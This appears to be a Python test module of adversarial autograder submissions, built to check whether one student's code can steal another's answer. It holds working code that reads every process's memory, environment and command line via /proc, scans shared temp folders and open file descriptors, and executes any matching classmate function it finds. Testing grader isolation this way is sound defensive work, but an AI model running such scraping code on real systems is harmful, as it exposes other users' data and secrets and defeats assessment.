"""Submissions that look for a classmate's answer wherever it could be, and hand it in."""

from __future__ import annotations

from workflows.attacks.marked_memory import NOTES, THIEF
from workflows.attacks.notebook import (
    BACKWARD,
    BACKWARD_POINTS,
    ZERO_BACKWARD,
    Attack,
    submission,
)

# Every place that a process may read: its own memory and others', files, and what is open.
_PLACES = r"""
import ctypes, os, re
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # So that a process may read itself again.
def memory_of(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            start, end = (int(bound, 16) for bound in line.split()[0].split("-"))
            try:
                memory.seek(start)
                yield memory.read(end - start)
            except (OSError, OverflowError, MemoryError):
                pass
def texts():
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        try: yield from memory_of(pid)
        except OSError: pass
        for what in ("environ", "cmdline", "comm"):
            try: yield open(f"/proc/{pid}/{what}", "rb").read()
            except OSError: pass
    for top in ("/scratch", "/tmp/", "/dev/shm", "/run", "/var/tmp", "/course"):
        for folder, _, names in os.walk(top):
            for name in names:
                try: yield open(os.path.join(folder, name), "rb").read(10**7)
                except OSError: pass
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            yield os.pread(fd, 10**7, 0)
        except OSError: pass
"""
# As it was written, and as it stands in JSON. The thief's own answer is all zeros.
_STEAL = r"""
HEAD = rb"def quiz2_backward\(x, alpha1, alpha2, beta\):(?:\n|\\n)"
PATTERN = re.compile(HEAD + rb"(?: {4}[^\0]{1,400}?(?:\n|\\n|$))+")
found = {match for text in texts() for match in PATTERN.findall(text)}
for match in found:
    code = match.decode("utf-8", "replace").replace("\\n", "\n").replace('\\"', '"')
    if "np.zeros(b" in code: continue
    lines = code.split("\n")
    while lines:
        try: exec("\n".join(lines), globals()); break
        except Exception: lines.pop()
"""

STEALING: tuple[Attack, ...] = (
    submission("looks for marked words", own=THIEF),
    submission("looks for a classmate's answer", backward=f"{ZERO_BACKWARD}{_PLACES}{_STEAL}"),
    # It shows that the search finds.
    submission(
        "finds what it wrote itself",
        own=f"mine = {BACKWARD!r}",
        backward=f"{ZERO_BACKWARD}{_PLACES}{_STEAL}",
        earns=BACKWARD_POINTS,
    ),
    submission(
        "leaves its words in memory", own=f"{NOTES}\nwords = [{NOTES!r} * n for n in range(9)]"
    ),
)
